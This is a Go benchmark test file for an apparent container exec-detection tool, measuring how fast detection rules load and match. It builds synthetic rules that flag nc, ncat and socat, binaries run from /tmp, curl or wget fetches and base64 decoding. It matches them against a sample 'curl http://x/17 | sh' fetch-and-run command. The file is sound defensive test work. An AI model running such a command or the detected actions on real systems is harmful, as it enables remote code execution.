package rules

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/execguard/execguard/detect"
)

// benchDir writes 50 rule files shaped like Elastic's container rules.
func benchDir(b *testing.B) string {
	dir := b.TempDir()
	for i := 0; i < 50; i++ {
		var q string
		switch i % 4 {
		case 0:
			q = fmt.Sprintf(`process where event.type == "start" and event.action == "exec" and process.name in ("tool%d", "nc", "ncat", "socat") and container.id like "?*"`, i)
		case 1:
			q = fmt.Sprintf(`process where event.type == "start" and process.interactive == true and process.executable like ("/tmp/*", "/dev/shm/*", "/var/tmp/%d/*") and container.id like "?*"`, i)
		case 2:
			q = fmt.Sprintf(`process where event.type == "start" and process.args : ("*curl*http*%d*", "*wget *") and not process.working_directory in ("/opt/apt", "/opt/yum")`, i)
		case 3:
			q = fmt.Sprintf(`process where event.action == "exec" and (startsWith~(process.name, "python%d") or process.command_line regex~ ".*base64 -d.*") and length(process.name) > 2`, i)
		}
		data := ruleTOML(fmt.Sprintf("rule-%02d", i), fmt.Sprintf("Rule %d", i), q)
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("rule_%02d.toml", i)), []byte(data), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	return dir
}

// BenchmarkLoad50: reading and compiling a directory of 50 rules (target: 5 ms).
func BenchmarkLoad50(b *testing.B) {
	dir := benchDir(b)
	for b.Loop() {
		set, err := LoadDir(dir)
		if err != nil || len(set.Rules) != 50 {
			b.Fatalf("%d rules, %v", len(set.Rules), err)
		}
	}
}

// BenchmarkLoadDefault: the built-in rules, read on every exec.
func BenchmarkLoadDefault(b *testing.B) {
	for b.Loop() {
		if _, err := Default(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkMatch50: 50 compiled rules against one event (target: 20 µs).
func BenchmarkMatch50(b *testing.B) {
	set, err := LoadDir(benchDir(b))
	if err != nil {
		b.Fatal(err)
	}
	doc := event(b, detect.OpExec, true, "/bin/sh", "-c", "curl http://x/17 | sh")
	b.ReportAllocs()
	for b.Loop() {
		set.Match(doc)
	}
}

// BenchmarkEventDocument: building the document rules are matched against.
func BenchmarkEventDocument(b *testing.B) {
	f := detect.Facts{Operation: detect.OpExec, Process: detect.Process{Args: []string{"sh"}, Terminal: true, Known: true}}
	for b.Loop() {
		if _, err := detect.EventDocument(detect.Record{Facts: f}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkMatchDefault: the built-in rules against an exec's event, read
// from the typed document (MatchEvent) and from its JSON round trip.
func BenchmarkMatchDefault(b *testing.B) {
	set, err := Default()
	if err != nil {
		b.Fatal(err)
	}
	r := detect.Record{Facts: detect.Facts{Operation: detect.OpExec, ExecKind: detect.ExecStream,
		Process:   detect.Process{Args: []string{"/bin/sh"}, Terminal: true, Known: true},
		Container: detect.Container{ID: "c1", Name: "app", PodName: "web", PodNamespace: "shop"}}}
	b.Run("typed", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if len(set.MatchEvent(r)) != 2 {
				b.Fatal("want the seed rule's two forms to match")
			}
		}
	})
	b.Run("json", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			doc, err := detect.EventDocument(r)
			if err != nil {
				b.Fatal(err)
			}
			if len(set.Match(doc)) != 2 {
				b.Fatal("want the seed rule's two forms to match")
			}
		}
	})
}
